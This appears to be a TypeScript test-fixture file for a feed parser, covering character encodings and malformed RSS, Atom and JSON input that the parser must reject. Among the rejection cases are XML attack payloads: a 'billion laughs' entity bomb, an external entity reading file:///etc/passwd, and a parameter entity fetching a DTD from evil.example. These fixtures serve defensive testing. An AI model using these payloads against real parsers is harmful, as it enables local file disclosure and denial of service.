import { atomEntry, atomFeed, bytes, jsonFeed, rssFeed, rssItem, utf16, type FeedCase } from './feed-case.js';

/** `停水` in the encodings of China. */
const gbk = '\xcd\xa3\xcb\xae';

const titled = (title: string, encoding: string) =>
  `<?xml version="1.0" encoding="${encoding}"?><rss version="2.0"><channel>${rssItem().replace('Water off', title)}</channel></rss>`;

/** Feeds in other encodings than UTF-8, or in others than they say. */
export const encodingCases: readonly FeedCase[] = [
  { name: 'encoding: GBK by its declaration', body: bytes(titled(gbk, 'GBK')), notices: [{ title: '停水' }] },
  {
    name: 'encoding: GB2312 in capitals and quotes of the server',
    contentType: 'text/xml; Charset="GB2312"',
    body: bytes(titled(gbk, 'utf-8')),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: GB18030 with a character of four bytes',
    body: bytes(titled('\x95\x32\x82\x36', 'gb18030')),
    notices: [{ title: '𠀀' }],
  },
  {
    name: 'encoding: Latin 1 by its declaration',
    body: bytes(titled('Caf\xe9', 'ISO-8859-1')),
    notices: [{ title: 'Café' }],
  },
  {
    name: 'encoding: UTF-16 with a mark, little end first',
    body: utf16(`\ufeff${titled('停水', 'utf-16')}`, true),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: UTF-16 with a mark, big end first',
    body: utf16(`\ufeff${titled('停水', 'utf-16')}`, false),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: UTF-16 without a mark',
    body: utf16(titled('停水', 'utf-16'), true),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: JSON in UTF-16 without a mark',
    body: utf16(jsonFeed([{ id: 'n1', title: '停水', date_published: '2026-11-24T00:00:00Z' }]), false),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: a mark of UTF-8 before anything that is said',
    contentType: 'text/xml; charset=gbk',
    body: `\ufeff${titled('停水', 'GBK')}`,
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: GBK where the server says UTF-8 of everything',
    contentType: 'text/xml; charset=utf-8',
    body: bytes(titled('\xcd\xa3\xb5\xe7', 'GBK')),
    notices: [{ title: '停电' }],
  },
  {
    name: 'encoding: one that nobody knows',
    contentType: 'text/xml; charset=klingon',
    body: titled('停水', 'x-unknown'),
    notices: [{ title: '停水' }],
  },
  {
    name: 'encoding: bytes that are no UTF-8 are replaced',
    body: bytes(titled('Caf\xe9', 'utf-8')),
    notices: [{ title: 'Caf\ufffd' }],
  },
  {
    name: 'encoding: emoji, which are two units each',
    body: titled('停水 🚰🚰', 'utf-8'),
    notices: [{ title: '停水 🚰🚰' }],
  },
];

const entity = (declaration: string, use: string) =>
  `<?xml version="1.0"?><!DOCTYPE rss [${declaration}]><rss version="2.0"><channel>${rssItem(`<description>${use}</description>`)}</channel></rss>`;

const laughs = [
  '<!ENTITY lol "lol">',
  ...[1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => `<!ENTITY lol${n} "${`&lol${n > 1 ? n - 1 : ''};`.repeat(10)}">`),
].join('');

/** A feed whose one entry would have three thousand million letters. */
export const entityBomb = entity(laughs, '&lol9;');

/** What is no feed, or a broken one. */
export const malformedCases: readonly FeedCase[] = [
  { name: 'malformed: nothing', body: '', fails: /an empty answer/ },
  { name: 'malformed: white space', body: ' \n\t', fails: /an empty answer/ },
  { name: 'malformed: words', body: 'Service unavailable', fails: /neither XML nor JSON/ },
  {
    name: 'malformed: bytes of a picture',
    body: bytes('\x89PNG\r\n\x1a\n\x00\x00'),
    fails: /neither XML nor JSON/,
  },
  {
    name: 'K106: a page with an error and status 200',
    contentType: 'text/html',
    body: '<!DOCTYPE html><html><body><h1>Oops<p>',
    fails: /a page instead of a feed/,
  },
  {
    name: 'malformed: a page that says it is a feed',
    contentType: 'application/rss+xml',
    body: '<!-- a --> <!-- b --><HTML><br></HTML>',
    fails: /a page instead of a feed/,
  },
  {
    name: 'malformed: a page in XHTML',
    body: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    fails: /a page instead of a feed/,
  },
  {
    name: 'malformed: XML of another kind',
    body: '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>',
    fails: /neither RSS nor Atom, but <urlset>/,
  },
  {
    name: 'K106: RSS that was cut off',
    body: rssFeed(rssItem()).slice(0, -20),
    fails: /Missing end tag|Unclosed/,
  },
  {
    name: 'malformed: Atom that was cut off in a tag',
    body: atomFeed(atomEntry()).slice(0, 150),
    fails: /\w/,
  },
  {
    name: 'malformed: RSS that was cut off in a CDATA section',
    body: rssFeed('<item><title><![CDATA[Water'),
    fails: /Unclosed CDATA/,
  },
  {
    name: 'malformed: tags that are closed crosswise',
    body: '<rss><channel><item></channel></item></rss>',
    fails: /Missing end tag/,
  },
  { name: 'malformed: RSS without a channel', body: '<rss version="2.0"/>', fails: /without a channel/ },
  { name: 'malformed: two roots', body: `${atomFeed('')}<feed/>`, fails: /\w/ },
  { name: 'K106: JSON that was cut off', body: jsonFeed([{ id: 'n1' }]).slice(0, -3), fails: /no JSON/ },
  { name: 'malformed: JSON of an API', body: '{"code":0,"data":[]}', fails: /no JSON Feed/ },
  { name: 'malformed: a list in JSON', body: '[1,2]', fails: /no JSON Feed/ },
  {
    name: 'malformed: a JSON Feed without items',
    body: '{"version":"https://jsonfeed.org/version/1.1","items":{}}',
    fails: /without `items`/,
  },
  { name: 'malformed: an error of an API', body: '{"version":1,"error":"no"}', fails: /no JSON Feed/ },
  { name: 'K107: entities within entities', body: entityBomb, fails: /&lol9;/ },
  {
    name: 'malformed: entities without end',
    body: entity('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'),
    fails: /&a;/,
  },
  {
    name: 'K107: an entity that is a file',
    body: entity('<!ENTITY f SYSTEM "file:///etc/passwd">', '&f;'),
    fails: /&f;/,
  },
  {
    name: 'malformed: an entity that is elsewhere',
    body: entity(
      '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; <!ENTITY f SYSTEM "http://evil.example/f">',
      '&f;',
    ),
    fails: /&f;/,
  },
  {
    name: 'an entity that is declared and means what it does in HTML',
    body: entity('<!ENTITY nbsp "&#160;">', '5&nbsp;m'),
    notices: [{ body: { type: 'text', content: '5\u00a0m' } }],
  },
  {
    name: 'a declaration of an entity that is only quoted, beside what has to be mended',
    body: rssFeed(
      rssItem('<description><![CDATA[<!ENTITY a "b"> & \f]]></description>').replace('off', '& off'),
    ),
    notices: [{ title: 'Water & off' }],
  },
  {
    name: 'malformed: tags within tags, a hundred thousand',
    body: `<rss><channel>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</channel></rss>`,
    fails: /\w/,
  },
  {
    name: 'malformed: lists within lists, a hundred thousand',
    body: `{"version":"https://jsonfeed.org/version/1","items":${'['.repeat(100_000)}${']'.repeat(100_000)},"x":}`,
    fails: /no JSON/,
  },
  {
    name: 'malformed: more tags than any feed has',
    body: `<rss><channel>${'<a/>'.repeat(260_000)}</channel></rss>`,
    fails: /more than 250000 tags/,
  },
  {
    name: 'malformed: attributes twice',
    body: '<rss version="2.0" version="2.0"><channel/></rss>',
    fails: /Duplicate attribute/,
  },
  {
    name: 'malformed: the half of a character in UTF-16',
    body: utf16(`\ufeff${rssFeed('')}`, true).slice(0, -1),
    fails: /\w/,
  },
];
